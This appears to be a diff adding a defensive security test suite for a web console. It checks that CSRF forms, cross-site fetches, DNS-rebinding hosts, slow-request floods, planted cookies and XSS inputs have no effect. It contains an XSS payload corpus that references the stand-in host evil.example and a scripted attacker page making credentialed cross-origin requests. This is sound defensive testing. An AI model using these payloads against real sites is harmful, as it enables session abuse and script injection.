@@ -1,0 +1,346 @@
+import { randomUUID } from 'node:crypto';
+import { existsSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { type AddressInfo, connect, type Socket } from 'node:net';
+import { type Browser, chromium, type Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
+import { budgetActions } from '../../../src/console/actions/budget-actions.ts';
+import { bulkVerbs } from '../../../src/console/actions/bulk-actions.ts';
+import { projectActions } from '../../../src/console/actions/project-actions.ts';
+import { scheduleActions } from '../../../src/console/actions/schedule-actions.ts';
+import { siteActions } from '../../../src/console/actions/site-actions.ts';
+import type { ConsoleOptions } from '../../../src/console/console-options.ts';
+import { fakeSetting } from '../../tools/console/fake-setting.ts';
+import { ask, formToken, runningConsole, send, signIn } from '../../tools/console/running-console.ts';
+
+const site = '/sites/acme/docs.acme.example';
+
+/** Every verb of every kind; a route with a verb that is not here is still asked, by the last of them. */
+const verbs = [
+  ...new Set([siteActions, projectActions, budgetActions, scheduleActions].flatMap((actions) => Object.keys(actions))),
+  ...bulkVerbs,
+  'end',
+  'a-verb-of-tomorrow',
+];
+
+/** All addresses that a pattern of the router stands for. */
+function addressesOf(pattern: string): string[] {
+  const filled = pattern
+    .replace(':org', 'acme')
+    .replace(':domain', 'docs.acme.example')
+    .replace(':project', 'prj_1')
+    .replace(/:(?!verb)\w+(\{[^}]*\})?/g, 'x');
+  return filled.includes(':verb') ? verbs.map((verb) => filled.replace(':verb', verb)) : [filled];
+}
+
+/** What would make any of them act. */
+const fields = {
+  version: 'v-old',
+  run: 'r',
+  sure: 'yes',
+  reason: 'because',
+  pass: 'sweep',
+  for: '1h',
+  requests: '10',
+  schedule: 'sync:acme:prj_1:incremental',
+  verb: 'start',
+  site: 'acme/docs.acme.example/v',
+  project: 'acme/prj_1',
+  login: 'terminal',
+};
+const filled = (token: string) => ({ ...fields, token, order: randomUUID() });
+
+/** Everything that takes a form but signing out, which is everybody's. */
+const guarded = ({ takesForms }: { takesForms: readonly string[] }): string[] =>
+  takesForms.filter((path) => path !== '/sign-out').flatMap(addressesOf);
+
+describe('every address that takes a form', () => {
+  it('is known: sites, projects, budgets, schedules, sessions, many at once', async () => {
+    const { takesForms } = await runningConsole();
+    expect(takesForms).toEqual(
+      expect.arrayContaining(['/sites/:org/:domain/:verb', '/bulk/:verb', '/sessions/:verb', '/sign-out']),
+    );
+  });
+
+  it.each<[string, Partial<ConsoleOptions>]>([
+    ['a read-only console', { write: false }],
+    ['a viewer', { proxy: { from: ['127.0.0.1'], user: 'x-user', groups: 'x-groups' } }],
+  ])('has no effect for %s, with a session and its token', async (_who, options) => {
+    const console = await runningConsole(options);
+    const headers = { 'x-user': 'vera@acme.example' };
+    const first = 'proxy' in options ? await ask(console, '/', { headers }) : null;
+    const cookie =
+      first === null ? await signIn(console) : (String(first.headers['set-cookie']?.[0]).split(';')[0] ?? '');
+    const { text } = await ask(console, '/', { headers: { cookie, ...headers } });
+    const token = /name="token" value="([^"]+)"/.exec(text)?.[1] ?? '';
+    expect(token).not.toBe('');
+    for (const path of guarded(console)) {
+      const answer = await send(console, path, filled(token), { cookie, headers });
+      expect([path, answer.status, answer.text.includes('Nothing was done')]).toEqual([path, 403, true]);
+    }
+    expect([console.effects.calls, console.effects.deeds]).toEqual([[], []]);
+    expect(await ask(console, '/', { headers: { cookie, ...headers } })).toMatchObject({ status: 200 });
+  });
+
+  it('has no effect from another page, without a session, or with a foreign token', async () => {
+    const console = await runningConsole();
+    const cookie = await signIn(console);
+    const token = await formToken(console, cookie);
+    const own = { origin: `http://127.0.0.1:${console.port}`, 'sec-fetch-site': 'same-origin' };
+    const form = 'application/x-www-form-urlencoded';
+    const attacks: [string, { cookie: string; headers?: Record<string, string> }, string, number[]][] = [
+      ['a cross-site form', { cookie, headers: { 'sec-fetch-site': 'cross-site' } }, token, [403]],
+      ['cross-site JSON', { cookie, headers: { 'content-type': 'application/json' } }, token, [415]],
+      ['a rebound name', { cookie, headers: { host: `evil.example:${console.port}` } }, token, [421]],
+      ['no session', { cookie: 'a=b' }, token, [401]],
+      ['a guessed token', { cookie, headers: { ...own, 'content-type': form } }, 'a'.repeat(43), [403]],
+    ];
+    for (const [what, sender, mine, statuses] of attacks) {
+      for (const path of guarded(console)) {
+        const { status } = await send(console, path, filled(mine), sender);
+        expect([what, path, statuses.includes(status)]).toEqual([what, path, true]);
+      }
+    }
+    expect([console.effects.calls, console.effects.deeds]).toEqual([[], []]);
+    // The same forms of the operator do act: the attacks were worth refusing.
+    for (const verb of ['hold', 'rollback', 'release']) {
+      expect(await send(console, `${site}/${verb}`, filled(token), { cookie })).toMatchObject({ status: 303 });
+    }
+    expect(console.effects.calls).toEqual(['hold', 'start', 'release']);
+  });
+});
+
+describe('floods', () => {
+  it('of slow forms end unanswered or with 408, and nobody else waits', { timeout: 90_000 }, async () => {
+    const console = await runningConsole();
+    const cookie = await signIn(console);
+    const head = [
+      `POST ${site}/hold HTTP/1.1`,
+      `Host: 127.0.0.1:${console.port}`,
+      `Cookie: ${cookie}`,
+      `Origin: http://127.0.0.1:${console.port}`,
+      'Sec-Fetch-Site: same-origin',
+      'Content-Type: application/x-www-form-urlencoded',
+      'Content-Length: 1000',
+    ].join('\r\n');
+    const slow = await Promise.all(Array.from({ length: 50 }, () => opened(console.port)));
+    const ends = slow.map((socket, nth) => {
+      // Half of them do not even finish their headers.
+      socket.write(nth % 2 === 0 ? `${head}\r\n\r\n` : head);
+      const dripping = setInterval(() => socket.write('a'), 1_000);
+      return endOf(socket).finally(() => clearInterval(dripping));
+    });
+    expect(await ask(console, '/', { headers: { cookie } })).toMatchObject({ status: 200 });
+    for (const said of await Promise.all(ends)) expect(said).toMatch(/^$|^HTTP\/1.1 (408|400)/);
+    expect(console.effects.calls).toEqual([]);
+    expect(await ask(console, '/', { headers: { cookie } })).toMatchObject({ status: 200 });
+  });
+
+  it('of connections and streams are bounded, and over when they are', { timeout: 90_000 }, async () => {
+    const console = await runningConsole();
+    const cookie = await signIn(console);
+    const idle = await Promise.all(
+      Array.from({ length: 1_100 }, () =>
+        opened(console.port)
+          .then((socket) => socket.resume())
+          .catch(() => null),
+      ),
+    );
+    // One beyond the limit is closed before it asks anything.
+    const open = async () =>
+      idle.filter((socket) => socket !== null && !socket.destroyed && !socket.readableEnded).length;
+    await expect.poll(open).toBeLessThanOrEqual(1_024);
+    for (const socket of idle) socket?.destroy();
+    const home = () =>
+      ask(console, '/', { headers: { cookie } }).then(
+        ({ status }) => status,
+        () => 0,
+      );
+    await expect.poll(home).toBe(200);
+
+    const streams: Socket[] = [];
+    for (let nth = 0; nth < 20; nth += 1) {
+      const socket = await opened(console.port);
+      streams.push(socket);
+      const lines = [`GET /events?of=overview HTTP/1.1`, `Host: 127.0.0.1:${console.port}`, `Cookie: ${cookie}`];
+      socket.write(`${lines.join('\r\n')}\r\n\r\n`);
+      const said = await new Promise<string>((resolve) => socket.once('data', (data) => resolve(data.toString())));
+      expect([nth, said.slice(9, 12)]).toEqual([nth, nth < 16 ? '200' : '204']);
+    }
+    for (const socket of streams) socket.destroy();
+    const another = async () => {
+      const controller = new AbortController();
+      const headers = { cookie };
+      const url = `http://127.0.0.1:${console.port}/events?of=overview`;
+      const { status } = await fetch(url, { headers, signal: controller.signal });
+      controller.abort();
+      return status;
+    };
+    await expect.poll(another).toBe(200);
+  });
+});
+
+function opened(port: number): Promise<Socket> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(port, '127.0.0.1', () => resolve(socket));
+    socket.on('error', reject);
+    onTestFinished(() => {
+      socket.destroy();
+    });
+  });
+}
+
+/** What came until the other side has closed. */
+function endOf(socket: Socket): Promise<string> {
+  let said = '';
+  socket.on('data', (data) => {
+    said += data.toString();
+  });
+  return new Promise((resolve) => socket.once('close', () => resolve(said)));
+}
+
+const executablePath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+
+/** Text that runs as a script somewhere if it is not written as text. */
+const corpus = [
+  '<img src=x onerror="window.pwned=1">',
+  '"><svg onload=window.pwned=1>',
+  '\'"--></style></script><script>window.pwned=1</script>',
+  '</textarea></title><iframe srcdoc="<script>parent.pwned=1</script>">',
+  'javascript:window.pwned=1//',
+  '<a href="javascript:window.pwned=1">x</a><base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=//evil.example/">',
+  '{{constructor.constructor("window.pwned=1")()}}',
+  '<form action=//evil.example><input name=token autofocus onfocus=window.pwned=1>',
+  '\u202e\u2066\u0000\u001b[31m<b>\uD800',
+];
+
+describe.skipIf(!existsSync(executablePath))('attacks in Chromium', () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    // A name of the attacker's that leads to this machine.
+    browser = await chromium.launch({ executablePath, args: ['--host-resolver-rules=MAP evil.example 127.0.0.1'] });
+  }, 60_000);
+  afterAll(() => browser?.close());
+
+  async function newPage(): Promise<Page> {
+    const context = await browser.newContext();
+    onTestFinished(() => context.close());
+    return context.newPage();
+  }
+
+  /** A page of the attacker's. */
+  async function evilSite(html: (path: string) => string): Promise<string> {
+    const server = createServer((request, response) => {
+      response.setHeader('content-type', 'text/html').end(html(request.url ?? ''));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    onTestFinished(() => {
+      server.close();
+      server.closeAllConnections();
+    });
+    return `http://evil.example:${(server.address() as AddressInfo).port}`;
+  }
+
+  it('by a page of another site, which knows the token: forms, JSON, beacons, images and frames do nothing', async () => {
+    const console = await runningConsole();
+    const page = await newPage();
+    await page.goto(console.signInUrl);
+    await page.waitForURL(`${console.url}/`);
+    const token = await page.locator('input[name=token]').first().inputValue();
+    const target = `${console.url}${site}/release`;
+    const body = new URLSearchParams(filled(token)).toString();
+    const inputs = Object.entries(filled(token)).map(([name, value]) => `<input name="${name}" value="${value}">`);
+    const evil = await evilSite((path) => {
+      const type = decodeURIComponent(path.slice(1));
+      const form = `<form method="post" enctype="${type}" action="${target}">${inputs.join('')}</form>`;
+      const submit = `${form}<script>document.forms[0].submit()</script>`;
+      const quiet = `<img src="${target}?${body}"><iframe src="${console.url}/"></iframe><script>
+const send = (type, body) => fetch('${target}', { method: 'POST', credentials: 'include', mode: 'no-cors', body: new Blob([body], { type }) });
+Promise.allSettled([
+  send('application/x-www-form-urlencoded', '${body}'), send('text/plain', '{"sure":"yes"}'), send('application/json', '{}'),
+  fetch('${target}', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' }),
+  fetch('${target}', { method: 'DELETE', credentials: 'include' }),
+  fetch('${console.url}/', { credentials: 'include' }).then((answer) => answer.text()),
+]).then((all) => {
+  navigator.sendBeacon('${target}', new URLSearchParams('${body}'));
+  document.title = all.map(({ status }) => status).join();
+});</script>`;
+      return path === '/quiet' ? quiet : submit;
+    });
+    for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
+      await page.goto(`${evil}/${encodeURIComponent(type)}`);
+      await page.getByText('Not from the console').waitFor();
+    }
+    await page.goto(`${evil}/quiet`);
+    // Neither what asks first nor what would read an answer is let through.
+    await expect.poll(() => page.title()).toMatch(/^\w+,\w+,rejected,rejected,rejected,rejected$/);
+    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
+    expect(console.effects.calls).toEqual([]);
+    await page.goto(`${console.url}${site}`);
+    await page.getByRole('button', { name: 'End the hold', exact: true }).click();
+    await page.getByText('is no longer held').waitFor();
+    expect(console.effects.calls).toEqual(['release']);
+  });
+
+  it('by a name that leads here finds nothing behind it', async () => {
+    const console = await runningConsole();
+    const page = await newPage();
+    const answer = await page.goto(`http://evil.example:${console.port}/`);
+    expect(answer?.status()).toBe(421);
+    const { pathname, search } = new URL(console.signInUrl);
+    expect((await page.goto(`http://evil.example:${console.port}${pathname}${search}`))?.status()).toBe(421);
+    expect(console.links).toEqual([]);
+  });
+
+  it('by a cookie planted from another port of the machine signs nobody into the session of another', async () => {
+    const console = await runningConsole();
+    const page = await newPage();
+    const name = `docferry_console_${console.port}`;
+    const attacker = await signIn(console);
+    await page.context().addCookies([
+      { name, value: attacker.split('=')[1] ?? '', domain: '127.0.0.1', path: '/' },
+      { name, value: 'planted', domain: '127.0.0.1', path: '/sites' },
+    ]);
+    await page.goto(console.links.at(-1) ?? '');
+    await page.waitForURL(`${console.url}/`);
+    const [mine] = (await page.context().cookies(console.url)).filter((cookie) => cookie.name === name);
+    expect(mine?.value).not.toBe(attacker.split('=')[1]);
+    // The session that was planted ended with it: who knows its cookie is signed in no more.
+    expect(await ask(console, '/', { headers: { cookie: attacker } })).toMatchObject({ status: 401 });
+  });
+
+  it.each(corpus)('by text that would be a script: %j', async (text) => {
+    const effects = { calls: [], deeds: [] };
+    const domain = 'docs.acme.example';
+    const console = await runningConsole({ setting: fakeSetting(effects, { reason: text, domains: [domain, text] }) });
+    const page = await newPage();
+    const asked: string[] = [];
+    page.on('dialog', (dialog) => {
+      asked.push(dialog.message());
+      void dialog.dismiss();
+    });
+    page.on('request', (request) => asked.push(new URL(request.url()).host));
+    await page.goto(console.signInUrl);
+    await page.waitForURL(`${console.url}/`);
+    const query = encodeURIComponent(text.toWellFormed());
+    for (const path of [
+      '/',
+      `/?q=${query}`,
+      site,
+      `/sites/acme/${query}`,
+      `/${query}`,
+      '/schedules',
+      '/audit',
+      `/audit?who=${query}&name=${query}`,
+      `/audit?since=${query}`,
+      '/sessions',
+    ]) {
+      await page.goto(`${console.url}${path}`);
+      expect([path, await page.evaluate('window.pwned')]).toEqual([path, undefined]);
+    }
+    const own = new URL(console.url).host;
+    expect(new Set(asked)).toEqual(new Set([own]));
+    expect(effects.calls).toEqual([]);
+  });
+});
